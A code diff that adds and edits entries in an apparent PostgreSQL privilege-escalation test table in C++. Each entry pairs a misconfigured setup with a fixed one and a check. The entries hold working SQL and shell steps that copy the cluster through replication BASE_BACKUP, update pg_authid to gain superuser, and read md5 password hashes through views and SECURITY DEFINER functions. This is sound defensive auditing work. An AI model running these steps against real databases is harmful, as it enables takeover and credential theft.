@@ -36,7 +36,7 @@ struct Attack {
   const char* reset = nullptr;    // by the superuser, what the attack left
 };
 
-inline constexpr std::array<Attack, 69>
+inline constexpr std::array<Attack, 74>
     attacks{
         {
             {.id = "ESC-SUPER",
@@ -212,13 +212,24 @@ CREATE TABLE public.t AS SELECT 1 AS a; GRANT SELECT ON public.t TO rds_superuse
                  R"x((psql -X -d '{where} user={r}app dbname=postgres replication=true' -c 'BASE_BACKUP FAST' || psql -X -d '{where} user={r}app dbname=postgres replication=true' -c "BASE_BACKUP (CHECKPOINT 'fast')") | grep -aq pg_hba.conf)x"},
             {.id = "ESC-REPLICATION",
              .since = 12,
-             .hba_without = R"x(local replication {r}app reject
-host replication {r}app all reject)x",
+             .hba_without = R"x(local all,replication {r}app reject
+host all,replication {r}app all reject)x",
              .setup = "CREATE ROLE {r}app LOGIN REPLICATION;",
              .without = "CREATE ROLE {r}app LOGIN REPLICATION;",
              .to = "a copy of the whole cluster",
              .shell =
                  R"x((psql -X -d '{where} user={r}app dbname=postgres replication=true' -c 'BASE_BACKUP FAST' || psql -X -d '{where} user={r}app dbname=postgres replication=true' -c "BASE_BACKUP (CHECKPOINT 'fast')") | grep -aq pg_hba.conf)x"},
+            {.id = "ESC-REPLICATION",
+             .since = 12,
+             .hba = R"x(local replication {r}app reject
+host replication {r}app all reject)x",
+             .hba_without = R"x(local all,replication {r}app reject
+host all,replication {r}app all reject)x",
+             .setup = "CREATE ROLE {r}app LOGIN REPLICATION;",
+             .without = "CREATE ROLE {r}app LOGIN REPLICATION;",
+             .to = "a copy of the whole cluster",
+             .shell =
+                 R"x((psql -X -d '{where} user={r}app dbname={db} replication=database' -c 'BASE_BACKUP FAST' || psql -X -d '{where} user={r}app dbname={db} replication=database' -c "BASE_BACKUP (CHECKPOINT 'fast')") | grep -aq pg_hba.conf)x"},
             {.id = "ESC-DECODE",
              .since = 12,
              .setup = "CREATE ROLE {r}app LOGIN REPLICATION; CREATE TABLE public.t (a text);",
@@ -764,6 +775,20 @@ CREATE TABLE public.secret AS SELECT 'gained'::text AS a;
 CREATE VIEW public.v WITH (security_invoker = true) AS SELECT a FROM public.secret; GRANT SELECT ON public.v TO {r}app;)x",
              .to = "what the owner of a view or rule reads or writes by it",
              .does = "TABLE public.v;"},
+            {.id = "ESC-VIEW",
+             .since = 12,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret AS SELECT 'x'::text AS a;
+CREATE VIEW public.v AS SELECT a FROM public.secret; GRANT DELETE ON public.v TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret AS SELECT 'x'::text AS a;
+CREATE VIEW public.v AS SELECT DISTINCT a FROM public.secret; GRANT DELETE ON public.v TO {r}app;)x",
+             .to = "what the owner of a view or rule reads or writes by it",
+             .does = R"x(DELETE FROM public.v;
+\! psql -X -q -At -d '{where} user={super} dbname={db}' -c "SELECT 'gained' WHERE NOT EXISTS (TABLE public.secret)")x",
+             .reset = "INSERT INTO public.secret VALUES ('x');"},
             {.id = "ESC-MATVIEW",
              .since = 12,
              .setup = R"x(CREATE ROLE {r}app LOGIN;
@@ -813,6 +838,18 @@ GRANT UPDATE (rolsuper), SELECT (rolname) ON pg_authid TO {r}app;)x",
 GRANT UPDATE, INSERT, DELETE ON pg_authid TO {r}app; GRANT SELECT (rolname) ON pg_authid TO {r}app;)x",
              .to = "superuser",
              .does = R"x(BEGIN; UPDATE pg_authid SET rolsuper = true WHERE rolname = '{r}app';
+SELECT 'gained' FROM pg_roles WHERE rolname = '{r}app' AND rolsuper;
+ROLLBACK;)x"},
+            {.id = "ESC-WRITE-CATALOG",
+             .since = 12,
+             .setup = R"x(CREATE ROLE {r}app LOGIN; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE VIEW public.roles AS SELECT rolname, rolsuper FROM pg_catalog.pg_authid;
+GRANT SELECT, UPDATE ON public.roles TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE VIEW public.roles AS SELECT rolname, rolsuper FROM pg_catalog.pg_authid;
+GRANT SELECT ON public.roles TO {r}app;)x",
+             .to = "superuser",
+             .does = R"x(BEGIN; UPDATE public.roles SET rolsuper = true WHERE rolname = '{r}app';
 SELECT 'gained' FROM pg_roles WHERE rolname = '{r}app' AND rolsuper;
 ROLLBACK;)x"},
             {.id = "ESC-USERMAP",
@@ -1052,6 +1089,36 @@ SET password_encryption = 'scram-sha-256'; CREATE ROLE {r}boss LOGIN PASSWORD 'h
 GRANT pg_read_all_data TO {r}app;)x",
              .to = "{r}boss",
              .does = "SELECT rolpassword FROM pg_authid WHERE rolname = '{r}boss';",
+             .hash_of = "{r}boss"},
+            {.id = "ESC-HASH",
+             .since = 12,
+             .hba = "local {db} {r}boss md5",
+             .hba_without = "local {db} {r}boss md5",
+             .setup = R"x(CREATE ROLE {r}app LOGIN; GRANT USAGE ON SCHEMA public TO PUBLIC;
+SET password_encryption = 'md5'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
+CREATE VIEW public.v AS SELECT rolname, rolpassword FROM pg_catalog.pg_authid;
+GRANT SELECT ON public.v TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN; GRANT USAGE ON SCHEMA public TO PUBLIC;
+SET password_encryption = 'md5'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
+CREATE VIEW public.v AS SELECT rolname, rolpassword FROM pg_catalog.pg_authid;)x",
+             .to = "{r}boss",
+             .does = "SELECT rolpassword FROM public.v WHERE rolname = '{r}boss';",
+             .hash_of = "{r}boss"},
+            {.id = "ESC-HASH",
+             .since = 12,
+             .certain = false,
+             .hba = "local {db} {r}boss md5",
+             .hba_without = "local {db} {r}boss md5",
+             .setup = R"x(CREATE ROLE {r}app LOGIN; GRANT USAGE ON SCHEMA public TO PUBLIC;
+SET password_encryption = 'md5'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
+CREATE FUNCTION public.get_auth(name text) RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT passwd FROM pg_catalog.pg_shadow WHERE usename = name';
+REVOKE ALL ON FUNCTION public.get_auth(text) FROM PUBLIC; GRANT EXECUTE ON FUNCTION public.get_auth(text) TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN; GRANT USAGE ON SCHEMA public TO PUBLIC;
+SET password_encryption = 'md5'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
+CREATE FUNCTION public.get_auth(name text) RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT passwd FROM pg_catalog.pg_shadow WHERE usename = name';
+REVOKE ALL ON FUNCTION public.get_auth(text) FROM PUBLIC;)x",
+             .to = "{r}boss",
+             .does = "SELECT public.get_auth('{r}boss');",
              .hash_of = "{r}boss"},
             {.id = "ESC-CREATEDB",
              .since = 12,
